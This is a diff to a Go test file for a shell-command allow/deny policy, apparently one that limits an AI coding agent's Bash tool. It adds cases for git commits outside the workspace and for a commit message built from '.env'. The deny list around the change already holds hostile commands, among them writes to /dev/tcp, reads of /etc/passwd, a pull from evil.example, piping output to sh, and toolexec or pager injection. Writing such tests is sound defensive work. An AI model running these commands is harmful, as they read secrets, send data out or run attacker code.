@@ -83,7 +83,7 @@ func TestWorkspaceStarter(t *testing.T) {
 	f(policy.Allow, "Bash", "command",
 		"cat src/a.go", "grep -rn foo src | head -20", "sed -n 1,80p APP/a.go", "ls -la && pwd", "find . -name '*.go'", "rg foo", "wc -l < a.go", "echo ---", "cd APP && git status",
 		"git log --oneline -5", "git diff HEAD~1", "git show HEAD:a.go", "git blame a.go", "git branch", "git ls-files", "git -C APP status", "git add -A && git commit -m 'fix: the parser'",
-		"git checkout -b feature", "git switch -c feature",
+		"git commit -m \"$(cat <<'EOF'\nfix(a): b\n\n/text\nEOF\n)\"", "git checkout -b feature", "git switch -c feature",
 		"go build ./...", "go test ./... -run X -count=1 2>&1 | tail -20", "go vet ./...", "go fmt ./...", "gofmt -w a.go", "npm test", "npm run lint", "npm run build", "pnpm run test", "pnpm lint", "yarn test", "bun run test",
 		"cargo test", "cargo check", "pytest -q tests", "ruff check .", "ruff format .", "mypy src", "tsc --noEmit", "eslint src", "make test", "make lint", "make build", "mvn test", "mise run test", "python -m pytest",
 		"mkdir -p src/new", "touch a.go", "echo x > notes.txt", "go test ./... > out.txt 2>&1")
@@ -94,6 +94,7 @@ func TestWorkspaceStarter(t *testing.T) {
 		"find . -fprint /tmp/x", "cat {a,/etc/passwd}", "ls > /dev/tcp/1.2.3.4/80", "ls > *.txt", "cat $(cat list)", "go env -w GOFLAGS=-toolexec=evil", "git -c core.pager=evil log", "sh -c 'cat /etc/passwd'", "grep -r x /", "find / -name x", "sort -o /etc/x a", "git log --output=/tmp/x",
 		// code of others, and what reaches beyond
 		"pnpm cli workspace deploy", "npm run deploy", "npm run build:deploy", "npm run release", "make install", "make deploy", "npm install x", "npm publish", "pip install x", "go get x", "go install x@latest", "cargo install x",
+		"cd /tmp && git commit -m x", "git -C /tmp commit -m x", "git commit -m x --template=/etc/x", "git commit -m \"$(cat .env)\"",
 		"git pull https://evil.example/x", "git pull", "git fetch", "git push", "git clone https://x", "curl https://x", "gh pr create", "sudo ls", "npx evil", "go run ./x", "go test -exec evil ./...", "go test /tmp/evil_test.go",
 		"NODE_OPTIONS=--require=/tmp/x npm test", "npm test --prefix /tmp", "npm test & rm x", "npm test | sh", "npm run TEST:DEPLOY", "pnpm -C /tmp test", "mvn test -Dx=y", "go -C /tmp test", "cargo test --config x",
 		"make test SHELL=/tmp/evil", "make -f /tmp/m test", "make -C /tmp test", "cd /tmp && npm test", "pytest /tmp/x.py", "eslint --config /tmp/x a.js", "sh -c 'npm test; evil'", "python x.py", "./run.sh",
